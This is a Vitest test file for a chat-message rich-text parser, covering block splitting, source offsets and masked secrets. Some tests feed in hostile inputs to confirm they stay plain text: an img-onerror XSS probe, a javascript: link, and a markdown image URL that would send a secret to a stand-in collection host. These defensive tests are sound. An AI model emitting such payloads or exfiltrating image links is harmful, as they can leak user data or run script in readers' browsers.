import { describe, expect, test } from "vitest";
import { indexOf } from "./offsets";
import { applyMarks, type Block, type Piece, toBlocks } from "./rich-text";

const piecesOf = (block: Block | undefined): readonly Piece[] =>
  block === undefined
    ? []
    : block.kind === "list"
      ? block.items.flat()
      : block.kind === "code"
        ? block.runs.flat()
        : block.pieces;
const words = (text: string) =>
  toBlocks(text).map((block) => [
    block.kind,
    piecesOf(block)
      .map((piece) => piece.text)
      .join(""),
  ]);

describe("message text", () => {
  test("is cut into paragraphs, lists, headings and code", () => {
    const text =
      "First.\nSame.\n\n## Head\n- one\n- two\n1. three\n\n**Bold line**\n```\ncode **not bold**\n\nmore\n```\nEnd";
    expect(words(text)).toEqual([
      ["paragraph", "First.\nSame."],
      ["heading", "Head"],
      ["list", "onetwo"],
      ["list", "three"],
      ["heading", "Bold line"],
      ["code", "code **not bold**\n\nmore"],
      ["paragraph", "End"],
    ]);
  });

  test("an unclosed fence while text is still arriving is code, not lost", () => {
    expect(words("Look:\n```\nGet-Service")).toEqual([
      ["paragraph", "Look:"],
      ["code", "Get-Service"],
    ]);
  });

  test("HTML stays text", () => {
    expect(words('<img src="x" onerror="alert(1)">')).toEqual([["paragraph", '<img src="x" onerror="alert(1)">']]);
  });

  test("turns no image and no link of a text into anything that is fetched or opened", () => {
    for (const text of [
      "![status](https://collect.example/p.png?d=secret)",
      "[open](javascript:alert(1))",
      "![status][p]",
      "<https://collect.example/x>",
    ]) {
      expect(words(text)).toEqual([["paragraph", text]]);
    }
  });

  test("every piece knows where it stands in the source", () => {
    const text = "The `svc-scan` account **is** locked, label «secret:12».\n- item `x`";
    for (const piece of toBlocks(text).flatMap(piecesOf)) {
      expect(text.slice(piece.start, piece.end)).toBe(piece.text);
    }
    expect(
      toBlocks(text)
        .flatMap(piecesOf)
        .find((piece) => piece.secret !== null)?.secret,
    ).toBe(12);
  });

  test("marks cut pieces and never a masked secret", () => {
    const text = "State: LockedOut «secret:1» now";
    const start = text.indexOf("Locked");
    const marked = applyMarks(toBlocks(text).flatMap(piecesOf), [{ start, end: text.length - 4, value: "fact" }]);
    expect(marked.filter((one) => one.mark).map((one) => one.piece.text)).toEqual(["LockedOut ", "«secret:1»"]);
    expect(marked.map((one) => one.piece.text).join("")).toBe(text);
  });
});

test("offsets of the server count code points", () => {
  const text = "a🦷b";
  const at = indexOf(text);
  expect(text.slice(at(0), at(1))).toBe("a");
  expect(text.slice(at(1), at(2))).toBe("🦷");
  expect(text.slice(at(2), at(3))).toBe("b");
  expect(at(99)).toBe(text.length);
});
